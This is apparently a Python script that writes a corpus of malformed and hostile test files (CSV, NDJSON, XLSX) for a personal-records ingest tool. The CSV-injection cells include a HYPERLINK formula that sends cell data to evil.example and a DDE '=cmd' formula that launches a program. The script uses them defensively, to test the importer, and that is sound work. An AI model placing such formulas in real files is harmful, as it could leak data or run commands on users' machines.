#!/usr/bin/env python3
"""Writes the nasty-input corpus of fangkong-ingest (see README.md).

The files are checked in; this script documents how each was made and rewrites them
byte for byte: `python3 make_corpus.py` in this directory.
"""
import zipfile, io

HEADER = "name,id_number,community_code,address\n"
ROWS = [
    "张三,410102199003071230,410102001001,郑州市中原区建设路1号",
    "李四,11010519491231002X,410102001002,",
    "王五,410102198506150024,410102001001,\"金水区\n花园路2号\"",
]


def write(name, data):
    with open(name, "wb") as f:
        f.write(data)


def text(lines, eol="\n"):
    return eol.join(lines) + eol


# UTF-8 with a byte order mark and CRLF line ends: what Excel's "CSV UTF-8" writes.
write("persons_bom_crlf.csv", b"\xef\xbb\xbf" + text([HEADER.strip()] + ROWS, "\r\n").encode())
# The same list saved by Excel on Chinese Windows as plain "CSV": GBK (code page 936).
write("persons_gbk.csv", text([HEADER.strip()] + ROWS, "\r\n").encode("gbk"))
# Excel's "Unicode text": UTF-16 LE with its byte order mark.
write("persons_utf16.csv", b"\xff\xfe" + text([HEADER.strip()] + ROWS, "\r\n").encode("utf-16-le"))
# CRLF, LF and a lone CR (classic Mac) in one file, and a blank CRLF line.
write(
    "persons_mixed_eol.csv",
    (HEADER.strip() + "\r\n" + ROWS[0] + "\n" + ROWS[1] + "\r" + "\r\n" + ROWS[2] + "\r\n").encode(),
)
# Cells that a spreadsheet would run as formulas (CSV injection), kept as text on import.
write(
    "persons_formulas.csv",
    text(
        [
            HEADER.strip(),
            "=1+1,410102199003071230,410102001001,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击\"\")\"",
            "+cmd,11010519491231002X,410102001002,\"=cmd|' /C calc'!A0\"",
            "@SUM(1),410102198506150024,410102001001,-2+3",
        ]
    ).encode(),
)
# Nothing at all; a header and no rows; a header naming a column twice (in another case).
write("empty.csv", b"")
write("header_only.csv", HEADER.encode())
write(
    "duplicate_headers.csv",
    text(["name,id_number,community_code,Name", ROWS[0].rsplit(",", 1)[0] + ",张三"]).encode(),
)
# A quote opened and never closed: the rest of the file is one field.
write("unclosed_quote.csv", text([HEADER.strip(), ROWS[0], "\"李四,11010519491231002X,410102001002,"]).encode())
# NUL bytes inside a field and a row with more fields than the header.
write(
    "nul_and_extra_fields.csv",
    text([HEADER.strip(), "张\x00三,410102199003071230,410102001001,", ROWS[1] + ",extra,more"]).encode(),
)
# JSON lines: a valid line, an object nested 10 000 deep, an array value, a truncated line.
deep = '{"name":' + "[" * 10000 + "]" * 10000 + "}"
write(
    "deep.ndjson",
    text(
        [
            '{"name":"张三","id_number":"410102199003071230","community_code":"410102001001"}',
            deep,
            '{"name":{"a":{"b":{"c":1}}},"id_number":"11010519491231002X","community_code":"410102001002"}',
            '{"name":"王五","id_number":"4101021985',
        ]
    ).encode(),
)


def sheet_xml(rows):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>']
    for r, cells in enumerate(rows, 1):
        out.append(f'<row r="{r}">')
        for c, cell in enumerate(cells):
            ref = "ABCD"[c] + str(r)
            out.append(cell.replace("REF", ref))
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out)


def inline(s):
    s = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f'<c r="REF" t="inlineStr"><is><t>{s}</t></is></c>'


XLSX_ROWS = [
    [inline("name"), inline("id_number"), inline("community_code"), inline("address")],
    # A formula with its cached value (what Excel shows) and a text cell that looks like one.
    ['<c r="REF" t="str"><f>HYPERLINK("http://evil.example/","点击")</f><v>点击</v></c>',
     inline("410102199003071230"), '<c r="REF"><f>410102001000+1</f><v>410102001001</v></c>',
     inline("=cmd|' /C calc'!A0")],
    # A formula saved without a cached value (written by a tool, never opened in Excel).
    ['<c r="REF"><f>1+1</f></c>', inline("11010519491231002X"), inline("410102001002"),
     inline("@SUM(1)")],
]
# A formula whose cached value is an Excel error.
ERROR_ROWS = [
    XLSX_ROWS[0],
    [inline("张三"), inline("410102199003071230"), inline("410102001001"),
     '<c r="REF" t="e"><f>1/0</f><v>#DIV/0!</v></c>'],
]


def xlsx(rows):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        def add(name, data):
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 30, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
        add("[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '</Types>')
        add("_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>')
        add("xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="persons" sheetId="1" r:id="rId1"/></sheets></workbook>')
        add("xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '</Relationships>')
        add("xl/worksheets/sheet1.xml", sheet_xml(rows))
    return buf.getvalue()


book = xlsx(XLSX_ROWS)
write("formulas.xlsx", book)
write("error_cell.xlsx", xlsx(ERROR_ROWS))
# The same workbook cut in half, as an interrupted upload leaves it.
write("truncated.xlsx", book[: len(book) // 2])
